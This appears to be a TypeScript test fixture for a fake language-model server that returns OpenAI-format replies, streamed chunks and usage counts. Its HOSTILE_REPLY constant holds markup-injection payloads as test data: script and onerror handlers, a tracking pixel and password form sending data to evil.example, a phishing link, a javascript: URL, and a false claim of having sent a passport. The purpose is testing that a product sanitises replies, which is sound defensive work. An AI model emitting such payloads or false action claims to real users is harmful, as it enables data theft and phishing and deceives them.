/** The replies of the stand-in for a language model, in OpenAI's format. */
import type { ModelMode, ModelRequestJson } from './model-server.ts';

export type ReplyJson = Record<string, unknown>;
/** `content` is a text; `empty` and `too-long` replies have null in its place, `odd` ones a list of parts. */
export type Message = { readonly content?: unknown; readonly refusal?: string };

/**
 * Everything that the product must not execute, render or link from a reply: elements, scripts, pictures, links, and
 * claims of actions.
 */
export const HOSTILE_REPLY = [
  'Of course. <script>document.title = "taken over"</script><img src="https://evil.example/a.png" onerror="document.title = 1">',
  '![tracker](https://evil.example/pixel.png?q=secret) [Sign in again](https://evil.example/sign-in) [x](javascript:alert(1))',
  '<https://evil.example/auto> <form action="https://evil.example"><input name="password"><button>Continue</button></form>',
  '<iframe src="https://evil.example"></iframe> &lt;b&gt;entities&lt;/b&gt; data:text/html;base64,PHNjcmlwdD4=',
  '[source]: https://evil.example/source\n\nSee [the source][source]. I have deleted your form and sent your passport to the embassy.',
].join('\n\n');

/** The message of a reply in each mode of the server. */
export function messageOf(mode: ModelMode, reply: string): Message {
  if (mode === 'refusing') return { refusal: "I'm sorry, I can't help with that." };
  if (mode === 'empty' || mode === 'too-long') return { content: null };
  return { content: mode === 'odd' ? [{ type: 'text', text: reply }] : mode === 'hostile' ? HOSTILE_REPLY : reply };
}

const tokensOf = (text: string): number => Math.ceil(text.length / 4);

function usageOf({ messages }: ModelRequestJson, { content, refusal }: Message): ReplyJson {
  const prompt = messages.reduce((sum, message) => sum + tokensOf(message.content), 0);
  const completion = tokensOf(refusal ?? (typeof content === 'string' ? content : ''));
  return { prompt_tokens: prompt, completion_tokens: completion, total_tokens: prompt + completion };
}

const head = (json: ModelRequestJson, object: string): ReplyJson => ({
  id: 'chatcmpl-local',
  object,
  created: 0,
  model: json.model,
});

export const wholeReply = (json: ModelRequestJson, message: Message): ReplyJson => ({
  ...head(json, 'chat.completion'),
  choices: [
    {
      index: 0,
      finish_reason: 'stop',
      message: { role: 'assistant', content: message.content ?? null, refusal: message.refusal ?? null },
    },
  ],
  usage: usageOf(json, message),
});

/** Chunks of a reply at most. Thousands of them, as of a long reply in JSON, would take most of the time of a test. */
const MOST_CHUNKS = 100;

/** The words of a text, in a long text several together. */
function wordsOf(text: string): string[] {
  const words = text.split(/(?<=\s)/);
  const size = Math.ceil(words.length / MOST_CHUNKS);
  return Array.from({ length: Math.ceil(words.length / size) }, (_, at) =>
    words.slice(at * size, (at + 1) * size).join(''),
  );
}

/**
 * The chunks of a streamed reply: one per word, the end, the chunk with the token usage, which has no choices, and a note
 * of a content filter, which has no delta.
 */
export function chunksOf(
  json: ModelRequestJson,
  message: Message,
): Record<'end' | 'endAtLimit' | 'usage' | 'note', ReplyJson> & { words: ReplyJson[] } {
  const chunk = (delta: ReplyJson, finish: string | null = null): ReplyJson => ({
    ...head(json, 'chat.completion.chunk'),
    choices: [{ index: 0, delta, finish_reason: finish }],
  });
  const [kind, said] = message.refusal === undefined ? ['content', message.content] : ['refusal', message.refusal];
  const words = typeof said === 'string' ? wordsOf(said) : [said];
  return {
    words: words.map((word) => chunk({ [kind]: word })),
    end: chunk({}, 'stop'),
    endAtLimit: chunk({}, 'length'),
    usage: { ...head(json, 'chat.completion.chunk'), choices: [], usage: usageOf(json, message) },
    note: {
      ...head(json, 'chat.completion.chunk'),
      choices: [{ index: 0, finish_reason: null, content_filter_offsets: { check_offset: 0, end_offset: 1 } }],
    },
  };
}

type Schema = { type?: string | readonly string[]; enum?: readonly unknown[]; properties?: Record<string, Schema> };

/** An empty value that is valid for a strict schema. */
export function emptyValue({ type = 'object', enum: choices, properties = {} }: Schema): unknown {
  const types = typeof type === 'string' ? [type] : type;
  if (types.includes('null')) return null;
  if (choices) return choices[0];
  if (types.includes('object'))
    return Object.fromEntries(Object.entries(properties).map(([name, schema]) => [name, emptyValue(schema)]));
  if (types.includes('array')) return [];
  if (types.includes('string')) return '';
  return types.includes('boolean') ? false : 0;
}
